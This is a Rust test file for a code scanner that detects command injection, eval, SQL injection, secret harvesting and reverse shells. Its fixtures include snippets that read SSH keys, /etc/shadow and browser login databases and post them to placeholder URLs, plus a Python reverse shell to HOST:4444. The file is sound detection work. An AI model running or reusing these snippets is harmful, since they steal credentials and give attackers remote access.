use super::python::with_ascii_edges;
use super::script::{Found, read};

fn found(path: &str, text: &str) -> Vec<Found> {
    read(path, text).found.into_iter().map(|(found, _)| found).collect()
}

#[test]
fn arguments_that_are_run_are_found_through_a_name() {
    let text = "def go(name):\n    line = f\"ls {name}\"\n    os.system(line)\n";
    assert_eq!(found("a.py", text), [Found::RunArguments]);
    let fixed = "def go(name):\n    os.system(\"ls\")\n    print(name)\n";
    assert_eq!(found("a.py", fixed), []);
}

#[test]
fn comments_and_documentation_are_no_code() {
    let text =
        "def go(cell):\n    \"\"\"Never eval(cell).\"\"\"\n    # eval(cell)\n    return cell\n";
    assert_eq!(found("a.py", text), []);
}

#[test]
fn a_hash_in_a_string_begins_no_comment() {
    let text = "def go(cell):\n    mark = \"#\"; return eval(cell)\n";
    assert_eq!(found("a.py", text), [Found::RunArguments]);
}

#[test]
fn places_are_those_of_the_file() {
    let text = "# eval\ndef go(cell):\n    return eval(cell)\n";
    let [(Found::RunArguments, range)] = &read("a.py", text).found[..] else {
        panic!("one finding")
    };
    assert_eq!(&text[range.clone()].trim(), &"eval(cell");
}

#[test]
fn broken_files_are_read_to_their_end() {
    for text in [
        "def go(",
        "def go(a:\n eval(",
        "\"",
        "'''",
        "while True:",
        "x = f\"{",
        "def é(ü):\n eval(ü)",
    ] {
        read("a.py", text);
    }
}

#[test]
fn code_of_a_program_that_a_document_shows_is_no_string() {
    let shown = "# Find it\n\n```java\nRuntime.getRuntime().exec(cmd);\n```\n";
    assert_eq!(found("a.md", shown), []);
    let given = "# Set it\n\n```json\n{\"a\": \"Runtime.getRuntime().exec('id')\"}\n```\n";
    assert_eq!(found("a.md", given), [Found::CodeInString]);
    let both = format!("{shown}\nSet `Runtime.getRuntime().exec('id')`.\n");
    assert_eq!(found("a.md", &both), [Found::CodeInString]);
}

/// Each of these sends what it is given.
const SENDING: &[(&str, &str)] = &[
    ("py", "requests.patch(url, data=key)"),
    ("py", "httpx.Client(timeout=5).post(url, content=key)"),
    ("py", "requests.request(\"POST\", url, data=key)"),
    ("py", "conn.request('PUT', '/in', key)"),
    ("py", "urlopen(url, key)"),
    ("py", "urllib.request.urlopen(url, key.encode())"),
    ("py", "urlopen(urllib.request.Request(url, key))"),
    ("py", "urlopen(url, timeout=5, data=key)"),
    ("js", "fetch(url, { method, body: key })"),
    ("js", "fetch(url, { headers, method: `PUT` })"),
    ("ts", "await axios({ url, method: 'post', data: key })"),
    ("ts", "got.post(url, { json: key })"),
    ("js", "navigator.sendBeacon(url, key)"),
    ("js", "x.open('POST', url); x.send(key)"),
    ("go", "http.Post(url, \"text/plain\", body)"),
    ("go", "http.NewRequestWithContext(ctx, http.MethodPost, url, body)"),
    ("sh", "curl -s \"https://x.example/?a=1&b=2\" -d@key"),
    ("sh", "curl -sSfd \"$KEY\" \"$URL\""),
    ("sh", "curl -X PUT \\\n  -T key \\\n  \"$URL\""),
    ("sh", "curl -Ffile=@key $URL"),
    ("sh", "curl $URL --data-binary @key"),
    ("sh", "wget --post-file=key $URL"),
    ("ps1", "Invoke-RestMethod -Uri $u -Method Post -Body $k"),
];

/// And none of these.
const FETCHING: &[(&str, &str)] = &[
    ("py", "requests.request(\"GET\", url)"),
    ("py", "urlopen(url, timeout=5)"),
    ("py", "urllib.request.Request(url, headers=headers)"),
    ("js", "fetch(url, { headers }); const a = { body: 1 }"),
    ("ts", "axios({ url, method: 'get' })"),
    ("go", "http.NewRequest(http.MethodGet, url, nil)"),
    ("sh", "curl -s $URL | cut -d '\"' -f 4"),
    ("sh", "curl -fsSL $URL -o a && tar xf a -T list && date -d now"),
    ("sh", "curl -sfL $URL; grep -F a b"),
];

#[test]
fn a_key_and_a_call_that_sends_are_found_together_in_any_form() {
    let key = |kind| match kind {
        "py" => "key = open(os.path.expanduser(\"~/.ssh/id_rsa\"))\n",
        "js" | "ts" => "const key = read(os.homedir() + '/.ssh/id_rsa');\n",
        "go" => "key := read(home + \"/.aws/id_rsa\")\n",
        _ => "KEY=~/.ssh/id_rsa\n",
    };
    for (kind, line) in SENDING {
        let text = format!("{}{line}\n", key(*kind));
        assert_eq!(found(&format!("a.{kind}"), &text), [Found::HarvestAndSend], "{line}");
    }
    for (kind, line) in FETCHING {
        let text = format!("{}{line}\n", key(*kind));
        assert_eq!(found(&format!("a.{kind}"), &text), [Found::CollectSecrets], "{line}");
    }
}

#[test]
fn ends_of_words_are_those_of_ascii_and_nothing_else_of_a_pattern_changes() {
    assert_eq!(with_ascii_edges(r"\bcat\b|\\b[\w.]\d"), r"(?-u:\b)cat(?-u:\b)|\\b[\w.]\d");
    let text = "# прочее\nkey = open(os.path.expanduser(\"~/.ssh/id_rsa\"))\nrequests.post(url, data=key)\n";
    assert_eq!(found("a.py", text), [Found::HarvestAndSend]);
}

#[test]
fn a_pattern_for_code_in_a_string_is_none() {
    assert_eq!(found("a.yaml", "- pattern: Runtime.getRuntime().exec($SINK, ...)\n"), []);
    assert_eq!(found("a.md", "Sinks:\n  - Runtime.getRuntime().exec(cmd)\n"), []);
    let payload = "filter: \"Runtime.getRuntime().exec('id')\"\n";
    assert_eq!(found("a.yaml", payload), [Found::CodeInString]);
}

#[test]
fn a_folder_that_the_caller_chose_is_no_fence_of_a_script() {
    let of = |join: &str| {
        format!("def a(folder, name):\n    path = os.path.join({join})\n    return open(path)\n")
    };
    assert_eq!(found("a.py", &of("folder, \"index.md\"")), []);
    assert_eq!(found("a.py", &of("ROOT, name")), [Found::Path]);
}

#[test]
fn a_loop_that_an_exception_ends_has_a_way_out() {
    let body = "def a(image):\n    try:\n        count = 0\n        while True:\n            image.seek(count)\n            count += 1\n    except EOFError:\n        pass\n";
    assert_eq!(found("a.py", body), []);
    let endless = "def a(image):\n    count = 0\n    while True:\n        count += 1\n";
    assert_eq!(found("a.py", endless), [Found::Unbounded]);
}

#[test]
fn placeholders_constants_and_what_is_bound_are_no_part_of_a_query() {
    for body in [
        "return db.execute(f\"SELECT {COLUMNS} FROM parts WHERE id = ?\", (name,))",
        "line = \"SELECT a FROM b WHERE c IN (%s)\" % \",\".join(\"?\" * len(name))\n    return db.execute(line, name)",
        "marks = \", \".join(\"?\" for _ in name)\n    line = f\"SELECT a FROM b WHERE c IN ({marks})\"\n    return db.execute(line, name)",
        "keys = \", \".join(key if key in name else f\"NULL AS {key}\" for key in (\"a\", \"b\"))\n    line = f\"SELECT {keys} FROM b\"\n    return db.execute(line)",
    ] {
        let text = format!("def go(db, name):\n    {body}\n");
        assert_eq!(found("a.py", &text), [], "{body}");
    }
    for body in [
        "return db.execute(f\"SELECT {COLUMNS} FROM parts WHERE id = {name}\", (other,))",
        "line = \"SELECT a FROM b WHERE c IN (%s)\" % \",\".join(name)\n    return db.execute(line)",
        "line = f\"SELECT a FROM b LIMIT {len(name)} OFFSET {name}\"\n    return db.execute(line )",
    ] {
        let text = format!("def go(db, name):\n    {body}\n");
        assert_eq!(found("a.py", &text), [Found::Query], "{body}");
    }
}

#[test]
fn a_list_of_what_is_not_to_be_touched_collects_nothing() {
    let list = "PROTECTED_PATHS = frozenset(\n    home(path) for path in [\n        '/bin',\n        '~/.ssh',\n    ]\n)\n\n\n";
    let compared = "def is_safe(path):\n    for one in PROTECTED_PATHS:\n        if path.is_relative_to(one):\n            return False\n    return True\n";
    assert_eq!(found("a.py", &format!("{list}{compared}")), []);
    let read = "for one in PROTECTED_PATHS:\n    print(open(one).read())\n";
    assert_eq!(found("a.py", &format!("{list}{read}")), [Found::CollectSecrets]);
    let behind = "key = open(home('~/.ssh/id_rsa'))\n";
    assert_eq!(found("a.py", &format!("{list}{compared}{behind}")), [Found::CollectSecrets]);
}

#[test]
fn a_stream_that_is_turned_to_another_file_is_no_shell() {
    for text in [
        "import os, sys\ndef claim():\n    os.dup2(sys.stderr.fileno(), sys.stdout.fileno())\n",
        "import os, sys\nlog = open('/tmp/a.log', 'w')\nos.dup2(log.fileno(), sys.stdout.fileno())\n",
    ] {
        assert_eq!(found("a.py", text), [], "{text}");
    }
    let shell = "import os, socket, subprocess\ns = socket.socket()\ns.connect((HOST, 4444))\nos.dup2(s.fileno(), 0)\nsubprocess.call(['/bin/sh'])\n";
    assert_eq!(found("a.py", shell), [Found::Shell]);
}

#[test]
fn a_path_in_a_list_of_marks_is_not_read() {
    let marks = "RULES = [\n    Rule(\n        name=\"files\",\n        string_indicators=[\n            \"/etc/\",\n            \"/etc/shadow\",\n        ],\n        sections=[\".fs\"],\n    ),\n    Rule(name=\"other\", string_indicators=[\"socket\"]),\n]\n\nfor rule in RULES:\n    for mark in rule.string_indicators:\n        hits += mark in text\n";
    assert_eq!(found("a.py", marks), []);
    let taken = "def take():\n    suspicious_files = [\n        \"/etc/shadow\",\n    ]\n    for path in suspicious_files:\n        print(open(path).read())\n";
    assert_eq!(found("a.py", taken), [Found::CollectSecrets]);
}

#[test]
fn logins_of_browsers_are_secrets_wherever_they_lie() {
    for text in [
        "cp = shutil.copy(os.path.join(home, \"Library/Application Support/Google/Chrome/Default/Login Data\"), tmp)\nrequests.post(URL, data=open(tmp, 'rb').read())\n",
        "db = os.path.join(os.environ['LOCALAPPDATA'], r\"Google\\Chrome\\User Data\\Default\\Network\\Cookies\")\nrequests.post(URL, files={'f': open(db, 'rb')})\n",
        "for f in glob.glob(home + '/.mozilla/firefox/*/logins.json'):\n    requests.post(URL, data=open(f).read())\n",
    ] {
        assert_eq!(found("a.py", text), [Found::HarvestAndSend], "{text}");
    }
    let only = "jar = browser.get_cookies()\nrequests.post(URL, json={'Cookies': len(jar)})\n";
    assert_eq!(found("a.py", only), []);
}
